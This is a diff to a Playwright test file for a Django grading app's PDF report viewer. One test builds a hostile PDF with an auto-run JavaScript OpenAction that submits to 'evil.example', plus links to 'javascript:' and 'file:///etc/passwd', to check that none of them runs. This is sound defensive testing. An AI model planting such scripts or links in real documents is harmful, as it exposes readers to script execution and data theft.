@@ -4,9 +4,13 @@ import pytest
 from axe_playwright_python.sync_playwright import Axe
 from django.test import Client
 from playwright.sync_api import expect, sync_playwright
+from pypdf import PdfReader, PdfWriter
+from pypdf.annotations import Link
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 from reportlab.pdfbase.pdfmetrics import stringWidth
 
 from grading.models import Annotation
+from grading.templatetags import reports
 from tests.grading.grades.grades import released, with_rubric
 from tests.grading.notes.reports import LINES, note_in, report_of, written_pdf
 from tests.parts import chromium_path
@@ -68,7 +72,7 @@ def test_a_report_is_drawn_with_its_words_over_it_and_nothing_from_elsewhere(pag
     page = page_of(cast.ruth, piece.get_absolute_url())
     expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
     assert all(line in words(page) for line in LINES)
-    assert min(pixel(page, n / 200, 82 / 842)[0] for n in range(24, 150)) < 90  # ink where the first line stands
+    assert min(pixel(page, n / 200, 68 / 842)[0] for n in range(24, 150)) < 90  # ink where the first line stands
     expect(page.locator("[data-report-place]")).to_have_text("page 1 of 3")
     page.locator(".report-page[data-page='3']").scroll_into_view_if_needed()
     expect(page.locator(".report-page[data-page='3'] canvas")).to_be_visible()
@@ -226,7 +230,6 @@ def test_names_are_covered_in_the_picture_and_gone_from_the_text(page_of, cast, 
 
 def hide_names(monkeypatch):
     """As the desk hides them: the page of a report alone has no such rule."""
-    from grading.templatetags import reports
 
     real = reports.annotations.report_facts
     monkeypatch.setattr(
@@ -251,7 +254,6 @@ def test_a_broken_pdf_is_a_sentence_and_the_file_to_save(page_of, cast, tmp_path
 
 
 def test_a_pdf_that_asks_for_a_password_says_so(page_of, cast, tmp_path):
-    from pypdf import PdfReader, PdfWriter
 
     piece = report_of(cast, cast.ruth, tmp_path)
     path = tmp_path / "media" / piece.file.name
@@ -263,13 +265,13 @@ def test_a_pdf_that_asks_for_a_password_says_so(page_of, cast, tmp_path):
 
 
 def test_what_a_pdf_brings_along_is_never_run_and_its_links_open_apart(page_of, cast, tmp_path, live_server):
-    from pypdf import PdfReader, PdfWriter
-    from pypdf.annotations import Link
 
     piece = report_of(cast, cast.ruth, tmp_path)
     path = tmp_path / "media" / piece.file.name
     writer = PdfWriter(clone_from=PdfReader(str(path)))
-    writer.add_js("app.alert('run'); this.submitForm('https://evil.example/');")
+    script = TextStringObject("app.alert('run'); this.submitForm('https://evil.example/');")
+    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script})
+    writer.root_object[NameObject("/OpenAction")] = action
     for n, url in enumerate(("https://example.org/lab", "javascript:alert(1)", "file:///etc/passwd")):
         writer.add_annotation(0, Link(rect=(72, 600 - 30 * n, 200, 620 - 30 * n), url=url))
     writer.write(path)
